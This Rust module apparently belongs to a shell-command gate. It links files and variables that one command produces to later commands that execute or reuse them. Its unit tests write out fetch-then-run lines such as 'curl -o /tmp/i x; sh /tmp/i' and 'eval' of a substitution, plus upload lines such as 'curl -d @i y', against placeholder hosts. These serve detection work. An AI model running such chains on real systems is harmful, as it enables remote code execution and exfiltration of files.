//! What a command runs or uses that others of its line have made: a file, a variable, a substitution.
//!
//! Files by their names only, without folders: which folder a line is in by then, others know.

use super::{consoles, languages, shells};
use crate::gate::call::{Redirect, RedirectKind, ShellCommand, Word, base_name};
use crate::gate::fetchers;
use crate::gate::options::{scan, values, words};
use crate::gate::targets::written;

/// Something that a command makes and a later one may take up.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub(super) enum Made {
    /// A file of that name.
    File(String),
    /// A variable that holds what a substitution printed.
    Variable(String),
}

/// Whether a program of this name runs what it reads.
pub(super) fn is_interpreter(name: &str) -> bool {
    shells::is_one(name) || languages::is_one(name)
}

/// What a command makes.
pub(super) fn made(command: &ShellCommand) -> Vec<Made> {
    let printed = command.assignments.iter().filter(|(_, value)| value.text.contains("$()"));
    let variables = printed.map(|(name, _)| Made::Variable(name.clone()));
    names(command).into_iter().map(Made::File).chain(variables).collect()
}

/// What a command takes up where it was made, and whether it runs it: `sh file`, `eval "$x"`; `-d @file`, `--data=$x`.
pub(super) fn taken(command: &ShellCommand) -> Vec<(Made, bool)> {
    let script = scripts(command).into_iter().filter(|file| file.literal);
    let script = script.map(|file| (Made::File(base_name(&file.text).to_owned()), true));
    let code = code(command).into_iter().filter_map(|word| match variables(&word.text).as_slice() {
        [name] if word.text.strip_prefix('$') == Some(name) => Some((Made::Variable((*name).to_owned()), true)),
        _ => None,
    });
    let mut found: Vec<(Made, bool)> = script.chain(code).collect();
    let reads = |kind| matches!(kind, RedirectKind::Input | RedirectKind::HereDocument);
    let inputs = command.redirects.iter().filter(|redirect| reads(redirect.kind)).map(|redirect| &redirect.target);
    for word in command.args.iter().chain(inputs) {
        let name = word.text.split(['/', '@', '=']).next_back().unwrap_or_default();
        found.push((Made::File(name.to_owned()), false));
        if !word.literal {
            found.extend(variables(&word.text).into_iter().map(|name| (Made::Variable(name.to_owned()), false)));
        }
    }
    found
}

/// The names of `$name` and `${name…}` in a text.
pub(super) fn variables(text: &str) -> Vec<&str> {
    let named = text.split('$').skip(1).filter_map(|part| {
        let part = part.strip_prefix('{').unwrap_or(part);
        let end = part.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(part.len());
        part.get(..end).filter(|name| !name.is_empty())
    });
    named.collect()
}

fn names(command: &ShellCommand) -> Vec<String> {
    let writes = |kind| matches!(kind, RedirectKind::Output | RedirectKind::Append);
    // What is named by its address is among what its arguments make it write.
    let redirected = command.redirects.iter().filter(|redirect| writes(redirect.kind)).map(|redirect| &redirect.target);
    let mut files: Vec<Word> = redirected.cloned().collect();
    let name = command.name();
    let long = ["--output", "--output-document", "--directory-prefix", "--output-dir"];
    if let Some(items) = fetchers::items(name, &command.args, &long) {
        let named = values(&items, if name == "curl" { &["-o", "--output"] } else { &["-O", "--output-document"] });
        files.extend(named);
    }
    match name {
        "cp" | "mv" | "install" | "ln" => {
            files.extend(words(&scan(&command.args, &[])).into_iter().next_back().cloned())
        }
        "dd" => files.extend(
            command
                .args
                .iter()
                .filter_map(|arg| Some(Word { text: arg.text.strip_prefix("of=")?.to_owned(), literal: arg.literal })),
        ),
        // What packs or encrypts: the same by another name.
        "tar" | "gtar" | "bsdtar" | "zip" | "gpg" | "gpg2" | "age" | "openssl" | "sort" => {
            files.extend(written(command))
        }
        "gzip" | "bzip2" | "xz" | "zstd" | "pigz" | "compress" => {
            let packed = |of: &Word, end: &str| Word { text: format!("{}.{end}", of.text), literal: of.literal };
            let of = words(&scan(&command.args, &[]));
            files.extend(of.into_iter().flat_map(|of| ["gz", "bz2", "xz", "zst", "Z"].map(|end| packed(of, end))));
        }
        "tee" | "aria2c" | "fetch" => files.extend(words(&scan(&command.args, &["-o"])).into_iter().cloned()),
        _ => {}
    }
    let names = files.iter().filter(|file| !file.text.contains('$')).map(|file| base_name(&file.text).to_owned());
    names.filter(|name| !name.is_empty() && name != "-" && name != "null").collect()
}

/// Whether a substitution is code that it runs: `bash -c "$(…)"`, `python3 -c "$(…)"`, `eval $(…)`.
pub(super) fn takes_code(command: &ShellCommand) -> bool {
    code(command).into_iter().any(|word| word.text == "$()")
}

/// The words that are code.
fn code(command: &ShellCommand) -> Vec<&Word> {
    let name = command.name();
    if name == "eval" {
        return command.args.iter().collect();
    }
    if !is_interpreter(name) {
        return Vec::new();
    }
    let takes = |flag: &Word| flag.text.starts_with('-') && flag.text.ends_with(['c', 'e', 'E', 'r', 'p']);
    let pairs = command.args.iter().zip(command.args.iter().skip(1));
    let given = pairs.filter(|(flag, _)| takes(flag)).map(|(_, code)| code);
    let is_document = |redirect: &&Redirect| redirect.kind == RedirectKind::HereDocument;
    given.chain(command.redirects.iter().filter(is_document).map(|redirect| &redirect.target)).collect()
}

/// The files that a command may run: itself by a path, or a shell's or an interpreter's script.
fn scripts(command: &ShellCommand) -> Vec<Word> {
    let name = command.name();
    // Whatever the options in front are.
    let first = || command.args.iter().find(|arg| !arg.text.starts_with(['-', '+'])).cloned();
    let mut found = match (name, languages::given(name, &command.args)) {
        ("source" | ".", _) => command.args.first().into_iter().cloned().collect(),
        (_, Some(given)) => given.files.into_iter().chain(first()).collect(),
        _ if shells::is_one(name) && shells::reads_only(name, &command.args) => Vec::new(),
        _ if shells::is_one(name) => shells::script(name, &command.args).into_iter().cloned().chain(first()).collect(),
        _ if consoles::is_database(name) => consoles::files(&command.args),
        ("make" | "gmake", _) => {
            values(&scan(&command.args, &["-f", "-C", "--file", "--makefile"]), &["-f", "--file", "--makefile"])
        }
        _ if command.program.text.contains('/') => vec![command.program.clone()],
        _ => Vec::new(),
    };
    // What it runs may be its input, too.
    let reads = consoles::is_database(name) || is_interpreter(name) && found.is_empty();
    if reads {
        let inputs = command.redirects.iter().filter(|redirect| redirect.kind == RedirectKind::Input);
        found.extend(inputs.map(|redirect| redirect.target.clone()));
    }
    // Each is followed once.
    found.dedup();
    found
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "a failed unwrap is the test's failure")]
    use super::super::parse_blocking;
    use super::*;

    #[test]
    fn what_is_fetched_has_a_name() {
        for (line, expected) in [
            ("curl -so /tmp/i.sh https://x/y", "i.sh"),
            ("curl -fsSLO https://x/y/i.sh?v=1", "i.sh"),
            ("curl https://x/y", ""),
            ("wget https://x/i.sh", "i.sh"),
            ("wget -qO- https://x/i.sh", ""),
            ("wget -O a https://x/i.sh", "a"),
            ("base64 -d x > b", "b"),
            ("tee -a log", "log"),
            ("dd if=a of=x/b bs=1", "b"),
            ("curl --user-agent -- -o i.sh x", "i.sh"),
            ("curl -sb c=d -o i.sh x", "i.sh"),
            ("tar czf a.tgz x", "a.tgz"),
            ("zip -r a.zip x", "a.zip"),
            ("gpg -o a -c x", "a"),
            ("xz -k x", "x.gz x.bz2 x.xz x.zst x.Z"),
            ("ls > /dev/null", ""),
        ] {
            let commands = parse_blocking(line).commands;
            let found: Vec<String> = commands.iter().flat_map(names).collect();
            assert_eq!(found.join(" "), expected, "{line}");
        }
    }

    /// Whether the command `last` runs (`r`) or uses (`u`) what the first one makes.
    fn check(line: &str, last: &str, expected: &str) {
        let commands = parse_blocking(line).commands;
        let made = made(commands.first().unwrap());
        let taken = taken(commands.iter().skip(1).find(|command| command.name() == last).unwrap());
        let found = made.iter().map(|made| match taken.iter().find(|(taken, _)| taken == made) {
            Some((_, true)) => 'r',
            Some((_, false)) => 'u',
            None => '-',
        });
        assert_eq!(found.collect::<String>(), expected, "{line}: {made:?}");
    }

    #[test]
    fn what_was_made_is_found_again() {
        check("curl -o /tmp/i x; sh /tmp/i", "sh", "r");
        check("curl -O https://x/i; ./i", "i", "r");
        check("curl -O https://x/i; bash -o pipefail i", "bash", "r");
        check("curl -O https://x/i; bash -euo pipefail +O extglob i", "bash", "r");
        check("curl -O https://x/i; python3 -W ignore i", "python3", "r");
        check("dd of=i < x; sh i", "sh", "r");
        check("curl -O https://x/i; cat i", "cat", "u");
        check("curl -O https://x/i; curl -d @i y", "curl", "u");
        check("curl -O https://x/i; curl -T y < i", "curl", "u");
        check("cp a b; curl -F f=@b y", "curl", "u");
        check("curl -O https://x/i; ls", "ls", "-");
        check("curl -O https://x/i; sh other.sh", "sh", "-");
        check("export a=1; ls $a", "ls", "");
        check("x=$(a); eval \"$x\"", "eval", "r");
        check("x=$(a); bash -c \"$x\"", "bash", "r");
        check("x=$(a); b ${x%y}", "b", "u");
        check("x=$(a); b $xy", "b", "-");
    }
}
